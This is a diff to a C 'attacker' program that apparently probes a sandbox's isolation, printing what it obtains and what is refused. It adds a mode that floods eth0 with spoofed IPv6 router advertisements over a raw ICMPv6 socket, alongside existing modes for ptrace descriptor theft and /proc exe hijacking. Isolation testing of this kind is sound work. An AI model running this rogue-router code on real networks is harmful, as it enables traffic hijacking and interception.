@@ -6,16 +6,20 @@
  *   attacker exe SECONDS        take /proc/PID/exe of whoever comes in, write to it later
  *   attacker trace SECONDS      attach to whoever comes in, and take its descriptors
  *   attacker exchange A B SECONDS    exchange two names without end
+ *   attacker router SECONDS     say on eth0 that it is a router for everybody
  *   attacker inotify SECONDS    take all inotify instances that there are, and keep them
  *
  * It prints one line for each thing it got, and one for each that it was refused.
  */
 #define _GNU_SOURCE
+#include <arpa/inet.h>
 #include <ctype.h>
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/mount.h>
+#include <net/if.h>
+#include <netinet/icmp6.h>
 #include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -23,6 +27,7 @@
 #include <sys/inotify.h>
 #include <sys/ptrace.h>
 #include <sys/resource.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/wait.h>
@@ -231,6 +236,42 @@ static void take_instances(void)
 		(void)usleep(100000);
 }
 
+/* ---- router ---- */
+
+/* RFC 4861: for half an hour and before any other, and addresses in 2001:db8:bad::/64. */
+static void advertise(void)
+{
+	struct {
+		struct nd_router_advert     router;
+		struct nd_opt_prefix_info   prefix;
+	} message = {
+		.router.nd_ra_type = ND_ROUTER_ADVERT,
+		.router.nd_ra_flags_reserved = 0x08,
+		.router.nd_ra_router_lifetime = htons(1800),
+		.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION,
+		.prefix.nd_opt_pi_len = sizeof(message.prefix) / 8,
+		.prefix.nd_opt_pi_prefix_len = 64,
+		.prefix.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO,
+		.prefix.nd_opt_pi_valid_time = htonl(3600),
+		.prefix.nd_opt_pi_preferred_time = htonl(3600),
+	};
+	struct sockaddr_in6 all = {
+		.sin6_family = AF_INET6,
+		.sin6_scope_id = if_nametoindex("eth0"),
+	};
+	int fd = socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6), hops = 255;
+
+	(void)inet_pton(AF_INET6, "ff02::1", &all.sin6_addr);
+	(void)inet_pton(AF_INET6, "2001:db8:bad::", &message.prefix.nd_opt_pi_prefix);
+	(void)setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof(hops));
+	while (!is_over()) {	/* its own address is not ready at once */
+		if (sendto(fd, &message, sizeof(message), 0, (struct sockaddr *)&all,
+			   sizeof(all)) > 0)
+			printf("sent\n");
+		(void)usleep(200000);
+	}
+}
+
 int main(int argc, char **argv)
 {
 	if (argc < 3)
@@ -243,6 +284,8 @@ int main(int argc, char **argv)
 		attack_trace();
 	else if (strcmp(argv[1], "exchange") == 0 && argc == 5)
 		exchange(argv[2], argv[3]);
+	else if (strcmp(argv[1], "router") == 0)
+		advertise();
 	else if (strcmp(argv[1], "inotify") == 0)
 		take_instances();
 	else
